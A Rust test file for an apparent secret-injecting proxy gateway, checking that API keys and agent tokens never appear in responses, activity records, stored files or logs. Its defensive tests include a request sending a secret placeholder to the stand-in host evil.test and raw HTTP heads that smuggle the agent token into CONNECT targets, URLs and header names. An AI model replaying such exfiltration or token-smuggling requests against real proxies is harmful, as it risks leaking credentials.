//! Secrecy: what the gateway itself says, records, stores or logs holds no secret and no token, whatever happens.

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE};
use bytes::Bytes;
use http::{Request, Response, StatusCode};
use onecli_domain::rule::Action;
use onecli_domain::secret::{InjectionConfig, Secret, SecretKind};
use onecli_gateway::Config;
use onecli_testkit::{Gate, Reply, Script, Upstream};
use percent_encoding::{NON_ALPHANUMERIC, percent_decode, utf8_percent_encode};

/// Holds what quoting, URLs and JSON write in another way.
const VALUE: &str = "sk/s3cr3t+val=ue&%41\"q'5";

/// How a text may show: as it is, or in another writing.
fn writings(text: &str) -> Vec<String> {
    let percent = utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
    let hex = text.bytes().fold(String::new(), |out, byte| format!("{out}{byte:02x}"));
    let json = serde_json::to_string(text).unwrap();
    let mut out = vec![text.to_owned(), percent.to_lowercase(), percent, json.trim_matches('"').to_owned()];
    out.extend([hex.to_uppercase(), hex]);
    for before in ["", "x", "xx"] {
        for engine in [BASE64_STANDARD, BASE64_URL_SAFE] {
            // Only what the text alone decides: not the characters at the borders.
            let encoded = engine.encode(format!("{before}{text}"));
            let from = if before.is_empty() { 0 } else { 4 };
            out.push(encoded[from..encoded.len() - 4].to_owned());
        }
    }
    out
}

/// Where one of the texts shows, in whatever writing.
fn find(said: &[u8], secrets: &[&str]) -> Option<String> {
    // URLs need not encode everything that could be encoded.
    let decoded: Vec<u8> = percent_decode(said).collect();
    secrets.iter().flat_map(|secret| writings(secret)).find(|writing| {
        [said, &decoded].iter().any(|said| memchr::memmem::find(said, writing.as_bytes()).is_some())
    })
}

#[track_caller]
fn assert_secret_free(what: &str, said: &[u8], secrets: &[&str]) {
    let found = find(said, secrets);
    assert!(found.is_none(), "{what} shows {found:?}: {}", String::from_utf8_lossy(said));
}

/// How a secret goes into requests to a host of its own, and what an agent sends for it.
struct Form {
    host: &'static str,
    secret: Secret,
    path: String,
    header: Option<(&'static str, String)>,
}

async fn forms(gate: &Gate) -> Vec<Form> {
    let header = |name: &str, format: &str| InjectionConfig {
        header_name: Some(name.into()),
        value_format: Some(format.into()),
        ..Default::default()
    };
    let query = InjectionConfig { param_name: Some("key".into()), ..Default::default() };
    let path = InjectionConfig { path_template: Some("/bot{value}/*".into()), ..Default::default() };
    let none = InjectionConfig::default;
    let mut forms = Vec::new();
    for (host, kind, config, value, path) in [
        ("a.good.test", SecretKind::Generic, header("authorization", "Bearer {value}"), VALUE, "/x"),
        (
            "b.good.test",
            SecretKind::Generic,
            header("authorization", "Basic {base64:user:{value}}"),
            VALUE,
            "/x",
        ),
        ("c.good.test", SecretKind::Generic, query, VALUE, "/x?a=1&key=mine"),
        ("d.good.test", SecretKind::Generic, path, VALUE, "/botmine/x"),
        ("e.good.test", SecretKind::Generic, none(), VALUE, "/x"),
        ("f.good.test", SecretKind::Generic, none(), VALUE, "/x"),
        ("g.good.test", SecretKind::Generic, none(), VALUE, "/x?key=STANDIN"),
        ("api.anthropic.com", SecretKind::Anthropic, none(), "sk-ant-api03-s3cr3tvalue", "/v1/messages"),
        ("api.openai.com", SecretKind::OpenAi, none(), "sk-proj-s3cr3tvalue", "/v1/responses"),
    ] {
        let secret = gate.secret(kind, host, None, config, value).await;
        let header = match host {
            "e.good.test" => Some(("x-key", secret.placeholder.clone())),
            "f.good.test" => {
                let pair = BASE64_STANDARD.encode(format!("user:{}", secret.placeholder));
                Some(("authorization", format!("Basic {pair}")))
            }
            _ => None,
        };
        forms.push(Form { host, path: path.replace("STANDIN", &secret.placeholder), secret, header });
    }
    forms
}

fn request(form: &Form) -> Request<Bytes> {
    let mut request = Request::get(format!("https://{}{}", form.host, form.path));
    if let Some((name, value)) = &form.header {
        request = request.header(*name, value);
    }
    request.body(Bytes::new()).unwrap()
}

fn said(reply: &Reply) -> Vec<u8> {
    let mut said = reply.body.to_vec();
    for (name, value) in &reply.headers {
        said.extend([name.as_str().as_bytes(), b": ", value.as_bytes(), b"\n"].concat());
    }
    said
}

/// Sends every form over both protocols; the gateway says with which status it ends, and nothing else.
async fn check(upstream: Upstream, settings: impl FnOnce(&mut Config), status: u16, blocked: bool) {
    let gate = Gate::with(upstream, settings).await;
    let agent = gate.agent().await;
    let forms = forms(&gate).await;
    if blocked {
        gate.rule(Action::Block, "*", None, None).await;
    }
    let secrets = [VALUE, "sk-ant-api03-s3cr3tvalue", "sk-proj-s3cr3tvalue", &agent.token];
    for form in &forms {
        for reply in [agent.send(request(form)).await, agent.send_http2(request(form)).await] {
            assert_eq!(reply.status.as_u16(), status, "{}: {reply:?}", form.host);
            assert_secret_free("the answer", &said(&reply), &secrets);
        }
    }
    let records = gate.activity().await;
    assert_eq!(records.len(), 2 * forms.len());
    assert_secret_free("the activity", format!("{records:?}").as_bytes(), &secrets);
    assert!(records.iter().all(|record| record.secrets.is_empty() || !blocked));
    for form in &forms {
        assert_secret_free("the secret's own view", format!("{:?}", form.secret).as_bytes(), &secrets);
    }
    for file in std::fs::read_dir(gate.folder.path()).unwrap() {
        let path = file.unwrap().path();
        assert_secret_free(&path.display().to_string(), &std::fs::read(&path).unwrap(), &secrets);
    }
    for seen in gate.upstream.seen() {
        let seen = format!("{} {:?}", seen.path, seen.headers);
        assert_secret_free("the upstream", seen.as_bytes(), &[&agent.token]);
        // The secret was there, so that finding none elsewhere means something.
        assert!(find(seen.as_bytes(), &secrets).is_some(), "{seen}");
    }
}

#[tokio::test]
async fn nothing_shows_where_all_goes_well() {
    check(Upstream::tls().await, |_| {}, 200, false).await;
}

#[tokio::test]
async fn nothing_shows_where_a_rule_blocks() {
    check(Upstream::tls().await, |_| {}, 403, true).await;
}

#[tokio::test]
async fn nothing_shows_where_the_upstream_refuses() {
    let upstream = Upstream::tls().await;
    upstream.answer(|_| {
        let mut response = Response::new(Script::whole("no"));
        *response.status_mut() = StatusCode::UNAUTHORIZED;
        response
    });
    check(upstream, |_| {}, 401, false).await;
}

#[tokio::test]
async fn nothing_shows_where_the_upstream_can_t_be_reached() {
    // A port that nobody listens on, since it is another's.
    check(
        Upstream::tls().await,
        |config| config.connect_to[0].to_host = Some("127.0.0.9".into()),
        502,
        false,
    )
    .await;
}

#[tokio::test]
async fn nothing_shows_where_the_upstream_is_not_who_it_should_be() {
    check(Upstream::tls().await, |config| config.upstream_ca.clear(), 502, false).await;
    check(Upstream::plain().await, |_| {}, 502, false).await;
}

#[tokio::test]
async fn nothing_shows_where_the_upstream_breaks() {
    for answer in [&b""[..], b"no http\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n"] {
        let (upstream, peers) = Upstream::by_hand().await;
        peers.answer_all(answer);
        check(upstream, |_| {}, 502, false).await;
    }
}

#[tokio::test]
async fn nothing_shows_where_the_upstream_never_answers() {
    let (upstream, _peers) = Upstream::by_hand().await;
    check(upstream, |config| config.upstream_timeout = Duration::from_millis(20), 504, false).await;
}

#[tokio::test]
async fn nothing_shows_where_a_placeholder_is_misused_or_the_way_is_not_secret() {
    let gate = Gate::start().await;
    let agent = gate.agent().await;
    let secrets = [VALUE, &agent.token];
    for form in forms(&gate).await {
        let misuse = Request::get(format!("https://evil.test/x?q={}", form.secret.placeholder))
            .body(Bytes::new())
            .unwrap();
        let reply = agent.send_http2(misuse).await;
        assert_eq!(reply.error(), "placeholder_misuse");
        assert_secret_free("the answer", &said(&reply), &secrets);
        let authority = format!("{}:80", form.host);
        let mut plain = Request::get(&*form.path);
        if let Some((name, value)) = &form.header {
            plain = plain.header(*name, value);
        }
        let reply = agent.open_plain(&authority).await.send(plain.body(Bytes::new()).unwrap()).await;
        assert_eq!(reply.error(), "plaintext_upstream");
        assert_secret_free("the answer", &said(&reply), &secrets);
    }
    assert_secret_free("the activity", format!("{:?}", gate.activity().await).as_bytes(), &secrets);
    assert!(gate.upstream.saw_nothing());
}

#[tokio::test]
async fn what_an_agent_shows_of_its_token_is_not_repeated() {
    let gate = Gate::start().await;
    let agent = gate.agent().await;
    let token = &agent.token;
    let auth = format!("Proxy-Authorization: {}\r\n", agent.proxy_authorization());
    for head in [
        format!("CONNECT x:{token}@api.good.test:443 HTTP/1.1\r\nHost: api.good.test:443\r\n{auth}"),
        format!("CONNECT api.good.test:443 HTTP/1.1\r\nHost: x:{token}@api.good.test:443\r\n{auth}"),
        format!("GET http://x:{token}@api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\n{auth}"),
        format!("GET http://api.good.test:{token}/ HTTP/1.1\r\nHost: api.good.test\r\n{auth}"),
        format!("GET /?token={token} HTTP/1.1\r\nHost: localhost\r\n{auth}"),
        format!(
            "GET http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\nProxy-Authorization: Bearer {token}x\r\n"
        ),
        format!(
            "GET http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\nProxy-Authorization: {token}\r\n"
        ),
        format!("GET http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\n{auth}{auth}"),
        format!("GET http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\nX Y: {token}\r\n"),
        format!("{token} http://api.good.test/ HTTP/1.1\r\nHost: api.good.test\r\n"),
    ] {
        let answer = agent.raw_plain(format!("{head}Connection: close\r\n\r\n").as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{head}: {answer}");
        assert_secret_free("the answer", answer.as_bytes(), &[token]);
    }
    // Its own query values are masked, wherever they are recorded.
    agent.get(&format!("https://api.good.test/x?token={token}&{token}&a={token}=b")).await;
    let records = gate.activity().await;
    assert_eq!(records[0].path, "/x?token=***&***&a=***");
    assert_secret_free("the activity", format!("{records:?}").as_bytes(), &[token]);
}

#[tokio::test]
async fn nothing_shows_in_the_log_in_its_greatest_detail() {
    let sink = Sink::default();
    let writer = sink.clone();
    tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .init();
    for (upstream, timeout) in [(Upstream::tls().await, 9000), (Upstream::by_hand().await.0, 20)] {
        let gate =
            Gate::with(upstream, |config| config.upstream_timeout = Duration::from_millis(timeout)).await;
        let agent = gate.agent().await;
        for form in forms(&gate).await {
            agent.send(request(&form)).await;
        }
        gate.activity().await;
        let log = sink.0.lock().unwrap().clone();
        assert!(!log.is_empty());
        let secrets = ["sk-ant-api03-s3cr3tvalue", "sk-proj-s3cr3tvalue", VALUE, &agent.token];
        for line in log.split(|byte| *byte == b'\n') {
            assert_secret_free("the log", line, &secrets);
        }
    }
}

/// What the log wrote.
#[derive(Clone, Default)]
struct Sink(Arc<Mutex<Vec<u8>>>);

impl Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}
